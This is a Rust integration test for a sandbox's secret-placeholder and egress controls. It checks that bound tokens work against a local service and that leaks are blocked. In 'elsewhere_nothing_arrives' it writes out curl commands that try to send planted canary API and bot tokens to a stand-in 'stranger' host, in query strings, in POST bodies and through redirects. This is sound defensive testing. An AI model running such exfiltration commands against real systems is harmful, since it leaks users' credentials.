//! Secrets by placeholder on the real engine: calls that need them succeed, against a service that
//! checks them, and inside there is nothing to steal.

use std::path::Path;
use std::time::Duration;

use crate::egress::Inside;
use crate::platform::Platform;
use crate::service::{Keys, Service, Trust};

/// The values that are planted, and the services that know them.
pub struct Planted {
    pub keys: Keys,
    service: Service,
    stranger: Service,
}

impl Planted {
    pub fn new(trust: &Trust, dir: &Path, unique: u32) -> Self {
        let stranger = Service::start(trust, &Keys::default());
        crate::egress::bare_repository(dir);
        let keys = Keys {
            api: format!("sk/api+canaryapi{unique}=x"),
            bot: format!("12345678:AAcanarybot{unique}"),
            git: (format!("ghp_canarygit{unique}"), dir.to_owned()),
            elsewhere: format!("https://127.0.0.2:{}/api", stranger.port),
        };
        let service = Service::start(trust, &keys);
        Self { keys, service, stranger }
    }

    /// What no search may find inside.
    pub fn canaries(unique: u32) -> [String; 3] {
        ["api", "bot", "git"].map(|what| format!("canary{what}{unique}"))
    }

    /// What the operator opens for the test: services on the internet are on this machine here.
    pub fn private(&self) -> String {
        let at = |service: &Service| format!("127.0.0.2:{}", service.port);
        format!("\n[egress]\nprivate = {:?}\n", [at(&self.service), at(&self.stranger)])
    }

    fn sent_to_the_stranger(&self) -> String {
        self.stranger.asked().concat()
    }
}

/// Keeps the keys, binds them, and uses each of them from within.
pub fn secrets_go_where_they_are_bound_and_nowhere_else(platform: &Platform, planted: &Planted) {
    let to = format!("127.0.0.2:{}", planted.service.port);
    let elsewhere = format!("127.0.0.2:{}", planted.stranger.port);
    let keys = &planted.keys;
    for (name, value) in
        [("API_KEY", &keys.api), ("BOT_TOKEN", &keys.bot), ("GIT_TOKEN", &keys.git.0)]
    {
        let kept = platform.feed(&["secret", "set", name], &format!("{value}\n"));
        assert!(kept.status.success(), "{kept:?}");
    }
    platform.ok(["egress", "allow", "pa", &to]);
    // The stranger is seen, too: by a rule that looks at requests.
    platform.ok(["egress", "allow", "pa", &elsewhere, "--method", "GET"]);
    let bearer = ["--header", "authorization: Bearer {}", "--header", "x-api-key"];
    platform.ok([&["secret", "bind", "API_KEY", "--to", &to], &bearer[..]].concat());
    platform.ok(["secret", "bind", "BOT_TOKEN", "--to", &to, "--path-after", "/bot"]);
    platform.ok(["secret", "bind", "GIT_TOKEN", "--to", &to, "--basic-password"]);
    // The engine gets its environment anew; what it then has is a stand-in.
    platform.ok(["restart", "pa"]);
    platform.wait_for("pa", "running", Duration::from_secs(300));

    let inside = Inside(platform);
    let (_, held) = inside.run("echo $API_KEY $BOT_TOKEN $GIT_TOKEN");
    let listed = platform.ok(["secret", "placeholders", "pa"]);
    assert_eq!(held.split_whitespace().count(), 3, "{held}");
    assert!(held.split_whitespace().all(|one| listed.contains(one)), "{held} {listed}");

    let curl = |rest: &str| inside.run(&format!("curl -sS -m 60 {rest}")).1;
    let key = "-H \"authorization: Bearer $API_KEY\"";
    assert_eq!(curl(&format!("{key} https://{to}/api")), "welcome\n");
    assert_eq!(curl(&format!("-H \"x-api-key: $API_KEY\" https://{to}/api")), "welcome\n");
    assert_eq!(curl(&format!("https://{to}/bot$BOT_TOKEN/getMe")), "{\"ok\":true}\n");
    let node = format!(
        "/opt/engine/bin/node -e 'fetch(\"https://{to}/api\", {{headers: {{\"x-api-key\": process.env.API_KEY}}}})\
         .then(r => r.text()).then(t => process.stdout.write(t))'"
    );
    assert_eq!(inside.run(&node).1, "welcome\n");
    let (_, clone) = inside.run(&format!("git clone -q https://{to}/repo.git g && cat g/README"));
    assert_eq!(clone, "cloned\n");

    elsewhere_nothing_arrives(planted, &inside, &to, &elsewhere);

    let echo = curl(&format!("{key} -i https://{to}/echo | tee echo"));
    assert!(echo.contains("you sent **") && echo.ends_with("that is all\n"), "{echo}");
    let told = platform.ok(["egress", "pa", "--json"]);
    for name in ["API_KEY", "BOT_TOKEN", "GIT_TOKEN"] {
        assert!(told.contains(name), "{name} went, and that is told: {told}");
    }
}

/// To another host or path, in another place, in a body, by a redirect.
fn elsewhere_nothing_arrives(planted: &Planted, inside: &Inside<'_>, to: &str, elsewhere: &str) {
    let before = planted.service.asked().len();
    for rest in [
        format!("-H \"x-api-key: $API_KEY\" https://{elsewhere}/"),
        format!("'https://{to}/api?key='$API_KEY"),
        format!("-H \"x-other: $API_KEY\" https://{to}/api"),
        format!("-H \"authorization: Bearer $BOT_TOKEN\" https://{to}/api"),
        format!("-d \"$API_KEY\" https://{to}/api"),
        format!("https://{to}/file$BOT_TOKEN"),
    ] {
        let (_, said) = inside.run(&format!("curl -sS -m 60 {rest}"));
        assert!(said.contains("urn:smartbox:egress:secret"), "{rest}: {said}");
    }
    // The head of a request whose body is no good may go; its body, and an end of it, do not.
    let heads = planted.service.asked();
    assert!(heads[before..].iter().all(|head| head.starts_with("POST /api ")), "{heads:?}");
    let (_, redirected) =
        inside.run(&format!("curl -sS -m 60 -L -H \"x-api-key: $API_KEY\" https://{to}/redirect"));
    assert!(redirected.contains("urn:smartbox:egress:secret"), "{redirected}");
    assert!(!planted.sent_to_the_stranger().contains("canary"), "{:?}", planted.stranger.asked());
}

/// By its address, with the owner's token, which the box never has.
pub fn a_project_clones_its_repository(platform: &Platform, planted: &Planted) {
    let url = format!("https://127.0.0.2:{}/repo.git", planted.service.port);
    let refused = platform.run(["new", "blog", "--kind", "project", "--repo", "/etc"]);
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    let made = platform.run(["new", "blog", "--kind", "project", "--auto", "--repo", &url]);
    let said = String::from_utf8_lossy(&made.stderr).into_owned();
    assert!(made.status.success(), "{said}");
    let readme = platform.home("blog").join(".openclaw/workspace/repo/README");
    assert_eq!(std::fs::read_to_string(readme).unwrap(), "cloned\n");
    platform.ok(["rm", "blog", "--yes"]);
}
